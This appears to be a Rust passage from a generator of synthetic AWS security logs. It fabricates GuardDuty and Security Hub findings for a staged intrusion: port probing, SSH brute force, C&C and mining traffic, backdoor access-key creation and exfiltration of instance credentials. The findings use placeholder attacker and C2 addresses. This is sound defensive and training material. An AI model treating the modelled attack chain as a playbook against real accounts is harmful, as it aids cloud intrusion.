        let calls: [(&str, &str, &str, String); 3] = [
            (
                "sts.amazonaws.com",
                "GetCallerIdentity",
                "sts.get-caller-identity",
                null(),
            ),
            (
                "s3.amazonaws.com",
                "ListBuckets",
                "s3api.list-buckets",
                format!(r#"{{"Host":"s3.{REGION}.amazonaws.com"}}"#),
            ),
            (
                "secretsmanager.amazonaws.com",
                "ListSecrets",
                "secretsmanager.list-secrets",
                null(),
            ),
        ];
        for (i, (source, name, command, request)) in calls.into_iter().enumerate() {
            let ms = self.at(1320.0) + i as i64 * 23 * SEC;
            self.call(
                ms,
                Call {
                    who: Who::Role,
                    source,
                    name,
                    region: REGION,
                    command,
                    request,
                    response: null(),
                    read_only: true,
                    error: None,
                },
            );
        }
    }

    fn findings(&mut self) {
        let (action, fields) = {
            let g = "aws/guardduty/service/action/";
            (
                format!(
                    r#"{{"actionType":"PORT_PROBE","portProbeAction":{{"blocked":false,"portProbeDetails":[{{"localPortDetails":{{"port":3389,"portName":"RDP"}},"localIpDetails":{{"ipAddressV4":"{PRIVATE_IP}"}},"remoteIpDetails":{}}},{{"localPortDetails":{{"port":8080,"portName":"Unknown"}},"localIpDetails":{{"ipAddressV4":"{PRIVATE_IP}"}},"remoteIpDetails":{}}}]}}}}"#,
                    remote(ATTACKER_IP),
                    remote(ATTACKER_IP)
                ),
                format!(
                    r#""{g}actionType":"PORT_PROBE","{g}portProbeAction/blocked":"false","{g}portProbeAction/portProbeDetails.0_/localPortDetails/port":"3389","{g}portProbeAction/portProbeDetails.0_/localIpDetails/ipAddressV4":"{PRIVATE_IP}",{}"#,
                    remote_fields("portProbeAction/portProbeDetails.0_", ATTACKER_IP)
                ),
            )
        };
        self.finding(Finding {
            ty: "Recon:EC2/PortProbeUnprotectedPort",
            asff_type: "TTPs/Discovery/Recon:EC2-PortProbeUnprotectedPort",
            severity: 2,
            title: format!("Unprotected port on EC2 instance {INSTANCE_ID} is being probed."),
            description: "EC2 instance has an unprotected port which is being probed by a known malicious host.".into(),
            resource: instance_resource(),
            asff_resources: instance_asff(),
            action,
            product_fields: fields,
            first_seen: self.at(12.0),
            last_seen: self.at(20.0),
            created: self.at(32.0),
            count: 2,
            feature: "FlowLogs",
            evidence: "null",
        });
        let (action, fields) = connection("INBOUND", ATTACKER_IP, 52_101, 22);
        self.finding(Finding {
            ty: "UnauthorizedAccess:EC2/SSHBruteForce",
            asff_type: "TTPs/Initial Access/UnauthorizedAccess:EC2-SSHBruteForce",
            severity: 2,
            title: format!("{ATTACKER_IP} is performing SSH brute force attacks against {INSTANCE_ID}."),
            description: format!("{ATTACKER_IP} is performing SSH brute force attacks against {INSTANCE_ID}. Brute force attacks are used to gain unauthorized access to your instance by guessing the SSH password."),
            resource: instance_resource(),
            asff_resources: instance_asff(),
            action,
            product_fields: fields,
            first_seen: self.at(120.0),
            last_seen: self.at(136.0),
            created: self.at(141.0),
            count: 64,
            feature: "FlowLogs",
            evidence: "null",
        });
        for (created, last, count) in [
            (170.0, 165.0, 2),
            (
                self.minutes_to_end() - 20.0,
                self.minutes_to_end() - 25.0,
                79,
            ),
        ] {
            let (action, fields) = connection("OUTBOUND", C2_IP, C2_PORT, 40_037);
            self.finding(Finding {
                ty: "Backdoor:EC2/C&CActivity.B",
                asff_type: "TTPs/Command and Control/Backdoor:EC2-C&CActivity.B",
                severity: 8,
                title: format!("EC2 instance {INSTANCE_ID} is communicating with a Command and Control server."),
                description: format!("EC2 instance {INSTANCE_ID} is communicating with {C2_IP}, an IP address associated with a known Command & Control server."),
                resource: instance_resource(),
                asff_resources: instance_asff(),
                action,
                product_fields: fields,
                first_seen: self.at(155.0),
                last_seen: self.at(last),
                created: self.at(170.0),
                count,
                feature: "FlowLogs",
                evidence: r#"{"threatIntelligenceDetails":[{"threatListName":"AmazonThreatIntel","threatNames":["Command and Control"]}]}"#,
            });
            let _ = created;
        }
        let (action, fields) = connection("OUTBOUND", POOL_IP, POOL_PORT, 40_038);
        self.finding(Finding {
            ty: "CryptoCurrency:EC2/BitcoinTool.B",
            asff_type: "Effects/Resource Consumption/CryptoCurrency:EC2-BitcoinTool.B",
            severity: 8,
            title: format!("EC2 instance {INSTANCE_ID} is communicating with a Bitcoin mining pool."),
            description: format!("EC2 instance {INSTANCE_ID} is communicating with {POOL_IP}, an IP address associated with cryptocurrency-related activity."),
            resource: instance_resource(),
            asff_resources: instance_asff(),
            action,
            product_fields: fields,
            first_seen: self.at(170.0),
            last_seen: self.at(200.0),
            created: self.at(185.0),
            count: 3,
            feature: "FlowLogs",
            evidence: r#"{"threatIntelligenceDetails":[{"threatListName":"AmazonThreatIntel","threatNames":["CryptoCurrency"]}]}"#,
        });
        let leaked = || key_resource(LEAKED_KEY, LEAKED_PRINCIPAL, LEAKED_USER, "IAMUser");
        let leaked_asff = || key_asff(LEAKED_KEY, LEAKED_PRINCIPAL, LEAKED_USER, "IAMUser");
        let (action, fields) = api_call("ListUsers", "iam.amazonaws.com", None);
        self.finding(Finding {
            ty: "Discovery:IAMUser/AnomalousBehavior",
            asff_type: "TTPs/Discovery/Discovery:IAMUser-AnomalousBehavior",
            severity: 2,
            title: "The API ListUsers was invoked using an anomalous user agent, ASN and user.".into(),
            description: format!("APIs commonly used in Discovery tactics were invoked by user IAMUser : {LEAKED_USER} under unusual circumstances. Such activity is not typically seen from this user."),
            resource: leaked(),
            asff_resources: leaked_asff(),
            action,
            product_fields: fields,
            first_seen: self.at(1200.0),
            last_seen: self.at(1202.0),
            created: self.at(1214.0),
            count: 7,
            feature: "CloudTrail",
            evidence: "null",
        });
        let (action, fields) = api_call(
            "CreateAccessKey",
            "iam.amazonaws.com",
            Some(BACKDOOR_IAM_USER),
        );
        self.finding(Finding {
            ty: "Persistence:IAMUser/AnomalousBehavior",
            asff_type: "TTPs/Persistence/Persistence:IAMUser-AnomalousBehavior",
            severity: 5,
            title: "The API CreateAccessKey was invoked using an anomalous user agent, ASN and user.".into(),
            description: format!("APIs commonly used in Persistence tactics were invoked by user IAMUser : {LEAKED_USER} under unusual circumstances. Such activity is not typically seen from this user."),
            resource: leaked(),
            asff_resources: leaked_asff(),
            action,
            product_fields: fields,
            first_seen: self.at(1203.0),
            last_seen: self.at(1204.0),
            created: self.at(1215.0),
            count: 3,
            feature: "CloudTrail",
            evidence: "null",
        });
        let (action, fields) = api_call("ListBuckets", "s3.amazonaws.com", None);
        let principal = format!("{ROLE_PRINCIPAL}:{INSTANCE_ID}");
        self.finding(Finding {
            ty: "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
            asff_type: "TTPs/Initial Access/UnauthorizedAccess:IAMUser-InstanceCredentialExfiltration.OutsideAWS",
            severity: 8,
            title: format!("Credentials for instance role {ROLE} used from external IP address."),
            description: format!("Credentials that were created exclusively for an EC2 instance using instance role {ROLE} have been used from external IP address {ATTACKER_IP}."),
            resource: key_resource(ROLE_KEY, &principal, ROLE, "AssumedRole"),
            asff_resources: key_asff(ROLE_KEY, &principal, ROLE, "AssumedRole"),
            action,
            product_fields: fields,
            first_seen: self.at(1320.0),
            last_seen: self.at(1321.0),
            created: self.at(1334.0),
            count: 3,
            feature: "CloudTrail",
            evidence: "null",
        });
    }

    fn minutes_to_end(&self) -> f64 {
        (self.end - self.start) as f64 / MIN as f64
    }

    fn finding(&mut self, f: Finding<'_>) {
        let id = ids::hex_string(&mut self.rng, 32);
        // an update of a finding keeps its id: the C&C finding is sent twice
        let id = if f.ty == "Backdoor:EC2/C&CActivity.B" {
            "c4c2a0b8d1e9f3a75b6e8d0c1f2a3b4c".to_string()
        } else {
            id
        };
        let updated = f.last_seen.max(f.created) + 5 * MIN + self.rng.i64(0..60_000);
        let updated = updated.min(self.end);
        let t = |ms: i64| {
            let mut s = String::new();
            clock::iso_ms(&mut s, ms);
            s
        };
        let (created, updated_s, first, last) = (
            t(f.created.min(updated)),
            t(updated),
            t(f.first_seen),
            t(f.last_seen),
        );
        let mut sent = String::new();
        clock::iso(&mut sent, updated + 7 * SEC);
        let event_id = ids::uuid_string(&mut self.rng);
        let arn = format!("arn:aws:guardduty:{REGION}:{ACCOUNT}:detector/{DETECTOR}/finding/{id}");
        let raw = format!(
            r#"{{"version":"0","id":"{event_id}","detail-type":"GuardDuty Finding","source":"aws.guardduty","account":"{ACCOUNT}","time":"{sent}","region":"{REGION}","resources":[],"detail":{{"schemaVersion":"2.0","accountId":"{ACCOUNT}","region":"{REGION}","partition":"aws","id":"{id}","arn":"{arn}","type":"{ty}","resource":{resource},"service":{{"serviceName":"guardduty","detectorId":"{DETECTOR}","action":{action},"resourceRole":"TARGET","additionalInfo":{{"value":"{{}}","type":"default"}},"evidence":{evidence},"eventFirstSeen":"{first}","eventLastSeen":"{last}","archived":false,"count":{count},"featureName":"{feature}"}},"severity":{severity},"createdAt":"{created}","updatedAt":"{updated_s}","title":"{title}","description":"{description}"}}}}"#,
            ty = f.ty,
            resource = f.resource,
            action = f.action,
            evidence = f.evidence,
            count = f.count,
            feature = f.feature,
            severity = f.severity,
            title = f.title,
            description = f.description,
        );
        self.push(updated + 7 * SEC, Stream::GuardDuty, raw);

        let imported = (updated + 3 * MIN + self.rng.i64(0..60_000)).min(self.end);
        let mut processed = String::new();
        clock::iso_ms(&mut processed, imported);
        let mut sent = String::new();
        clock::iso(&mut sent, imported + 2 * SEC);
        let event_id = ids::uuid_string(&mut self.rng);
        let label = match f.severity {
            0..=3 => "LOW",
            4..=6 => "MEDIUM",
            _ => "HIGH",
        };
        let g = "aws/guardduty/service/";
        let finding_id = format!("arn:aws:securityhub:{REGION}::product/aws/guardduty/{arn}");
        let raw = format!(
            r#"{{"version":"0","id":"{event_id}","detail-type":"Security Hub Findings - Imported","source":"aws.securityhub","account":"{ACCOUNT}","time":"{sent}","region":"{REGION}","resources":["{finding_id}"],"detail":{{"findings":[{{"SchemaVersion":"2018-10-08","Id":"{arn}","ProductArn":"arn:aws:securityhub:{REGION}::product/aws/guardduty","GeneratorId":"arn:aws:guardduty:{REGION}:{ACCOUNT}:detector/{DETECTOR}","AwsAccountId":"{ACCOUNT}","Types":["{asff_type}"],"FirstObservedAt":"{first}","LastObservedAt":"{last}","CreatedAt":"{created}","UpdatedAt":"{updated_s}","Severity":{{"Product":{severity},"Label":"{label}","Normalized":{normalized},"Original":"{severity}"}},"Title":"{title}","Description":"{description}","SourceUrl":"https://{REGION}.console.aws.amazon.com/guardduty/home?region={REGION}#/findings?macros=current&fId={id}","ProductFields":{{{fields},"{g}archived":"false","{g}count":"{count}","{g}detectorId":"{DETECTOR}","{g}serviceName":"guardduty","{g}resourceRole":"TARGET","{g}eventFirstSeen":"{first}","{g}eventLastSeen":"{last}","aws/securityhub/FindingId":"{finding_id}","aws/securityhub/ProductName":"GuardDuty","aws/securityhub/CompanyName":"Amazon"}},"Resources":{resources},"WorkflowState":"NEW","Workflow":{{"Status":"NEW"}},"RecordState":"ACTIVE","FindingProviderFields":{{"Severity":{{"Label":"{label}","Original":"{severity}"}},"Types":["{asff_type}"]}},"CompanyName":"Amazon","ProductName":"GuardDuty","Region":"{REGION}","ProcessedAt":"{processed}","Sample":false}}]}}}}"#,
            asff_type = f.asff_type,
            severity = f.severity,
            normalized = f.severity * 10,
            title = f.title,
            description = f.description,
            fields = f.product_fields,
            count = f.count,
            resources = f.asff_resources,
        );
        self.push(imported + 2 * SEC, Stream::SecurityHub, raw);
    }
}
